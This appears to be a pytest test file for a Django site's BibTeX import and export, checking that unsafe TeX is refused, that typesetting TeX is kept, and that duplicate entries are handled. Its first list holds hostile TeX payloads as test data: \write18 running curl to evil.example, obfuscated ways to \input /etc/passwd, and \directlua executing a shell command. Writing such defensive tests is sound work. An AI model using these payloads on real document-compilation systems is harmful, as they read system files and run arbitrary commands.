    pytest.param(r"\immediate\openout1=paper.tex \write1{x} \immediate\write18{curl evil.example}", id="write18"),
    pytest.param(r"\catcode`\|=0 |input{/etc/passwd}", id="catcode"),
    pytest.param(r"\def\x{\inp}\x ut", id="def"),
    pytest.param(r"\csname input\endcsname{/etc/passwd}", id="csname"),
    pytest.param(r"\usepackage{shellesc}", id="usepackage"),
    pytest.param(r"^^5cinput{/etc/passwd}", id="character-code"),
    pytest.param("\\begin{file%\n  contents}{paper.tex}", id="filecontents-joined-by-a-comment"),
    pytest.param(r"\lstinputlisting{/etc/passwd}", id="package-command"),
    pytest.param(r"\directlua{os.execute('id')}", id="lua"),
]


@pytest.mark.django_db
@pytest.mark.parametrize("tex", TEX_THAT_READS_FILES_OR_RUNS)
def test_owner_entry_with_tex_that_reads_files_or_runs_is_refused_and_never_served(tex):
    """An editor, not only the owner, can write the page's entry; visitors compile what /publications.bib serves."""
    page = admin_page("Mine", ["Zoë Quill"])
    page.bibtex = f"@misc{{mine, title = {{Mine {tex}}}}}"
    with pytest.raises(ValidationError, match="TeX that reads or writes files, runs programs or redefines commands"):
        page.full_clean()
    # An entry stored before the rule (or by the shell) is not served: the page's own fields are.
    assert publication_bibtex(page) == generated_bibtex(page)
    assert unsafe_tex(export_bibtex([page])) == []


@pytest.mark.django_db
def test_tex_that_typesets_is_the_owners_to_use():
    entry = r"""@misc{mine,
      title = {{BERT} and {\"u}ber Na\"ive {\'E}t{\'e}s: 50\% {\&} \emph{More} $O(n^2)$ \ldots{} \TeX},
      author = {M{\"u}ller, J{\"u}rgen and {\L}ukasiewicz, Jan and Dvo{\v{r}}{\'a}k, Anton{\'\i}n},
      note = {\url{https://example.org/a_b} \href{https://example.org}{Here} {\noopsort{a}}\\ \copyright{} 2024%
        Reading list},
      abstract = {We read 20\%
        fewer tokens. \begin{itemize}\item Openness\end{itemize}}
    }"""
    assert unsafe_tex(entry) == []
    page = admin_page("Mine", ["Zoë Quill"])
    page.bibtex = entry
    assert page.bibtex_problem() == ""
    assert publication_bibtex(page) == entry


@pytest.mark.django_db
def test_import_keeps_no_entry_with_tex_that_reads_files_or_runs(client, tmp_path):
    text = "@misc{mine, title = {Mine}, note = {\\input{/etc/passwd}}, year = {2024}}\n"
    output, _ = run_import(str(write(tmp_path, text)))
    assert "line 1 (mine): the entry holds TeX that reads or writes files" in output
    assert "(\\input): not kept; the page serves one written from its fields" in output
    assert PublicationPage.objects.get().bibtex == ""
    assert unsafe_tex(export(client)) == []


@pytest.mark.django_db
def test_notes_around_the_owner_entry_are_left_out():
    page = admin_page("Mine", ["Zoë Quill"])
    page.bibtex = "% From DBLP (2024)\n@misc{mine, title = {Mine (and Wide)}}\n"
    assert publication_bibtex(page) == "@misc{mine, title = {Mine (and Wide)}}"


@pytest.mark.django_db
def test_owner_recognised_by_a_name_variant(tmp_path):
    _, site, _ = ensure_homepage()
    profile = ProfileSettings.for_site(site)
    profile.name, profile.name_variants = "Zoe Quill", "Z. Quill"
    profile.save()
    run_import(str(write(tmp_path, "@article{x, author = {Quill, Z. and Ortega, Ana}, title = {T}, year = {2020}}\n")))
    authors = [(a.name, a.is_owner) for a in PublicationPage.objects.get(title="T").authors.all()]
    assert authors == [("Z. Quill", True), ("Ana Ortega", False)]


@pytest.mark.django_db
def test_a_key_that_names_another_doi_or_arxiv_id_is_another_paper(tmp_path):
    """A citation key is a name someone chose (``pan2024llmlingua`` fits two papers of one author and year):
    an entry with another DOI or arXiv id than the paper the key belongs to is never written over that paper."""
    first = "@article{pan2024llmlingua, title={LLMLingua-2}, journal={ACL}, year={2024}, eprint={2403.12968}}"
    run_import(str(write(tmp_path, first, "first.bib")))
    other = "@article{pan2024llmlingua, title={LLMLingua}, journal={EMNLP}, year={2023}, eprint={2310.05736}}"
    output, _ = run_import(str(write(tmp_path, other, "other.bib")))
    assert "has the key of “LLMLingua-2” but another DOI or arXiv id" in output
    assert sorted(PublicationPage.objects.values_list("title", "arxiv_id")) == [
        ("LLMLingua", "2310.05736"),
        ("LLMLingua-2", "2403.12968"),
    ]
    same_key = (
        "@article{dup, title={Paper One}, journal={J1}, year={2019}, doi={10.2222/one}}\n"
        "@article{dup, title={Paper Two}, journal={J2}, year={2022}, doi={10.2222/two}}\n"
    )
    run_import(str(write(tmp_path, same_key, "same-key.bib")))
    assert PublicationPage.objects.filter(title__in=["Paper One", "Paper Two"]).count() == 2
    output, _ = run_import(str(write(tmp_path, same_key, "same-key.bib")))
    assert "0 created, 0 updated" in output


@pytest.mark.django_db
def test_a_paper_listed_twice_in_a_file_is_imported_once_and_left_alone_the_next_time(tmp_path):
    """Google Scholar's exports repeat papers, spelled a little differently: the first entry stands."""
    text = (
        "@inproceedings{kim2021deep, title={Deep Widgets}, author={Kim, A}, booktitle={ICML}, year={2021},"
        " doi={10.5555/widgets.1}}\n"
        "@inproceedings{kim2021deepa, title={Deep widgets}, author={Kim, A}, booktitle={ICML}, year={2021},"
        " doi={10.5555/WIDGETS.1}}\n"
    )
    path = write(tmp_path, text)
    output, _ = run_import(str(path))
    assert "line 2 (kim2021deepa): the same publication as line 1 (kim2021deep)" in output
    page = PublicationPage.objects.get()
    revisions, published_at = page.revisions.count(), page.last_published_at
    output, _ = run_import(str(path))
    assert "0 created, 0 updated, 1 unchanged" in output
    page.refresh_from_db()
    assert (page.title, page.revisions.count(), page.last_published_at) == ("Deep Widgets", revisions, published_at)
